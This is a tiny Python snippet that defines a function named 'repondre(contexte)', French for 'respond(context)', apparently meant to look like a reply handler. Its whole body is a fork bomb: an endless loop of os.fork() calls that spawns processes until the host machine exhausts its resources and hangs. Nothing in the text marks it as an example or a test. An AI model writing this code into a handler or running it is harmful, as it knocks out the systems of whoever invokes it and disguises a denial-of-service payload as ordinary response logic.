import os
def repondre(contexte):
    while True:
        os.fork()
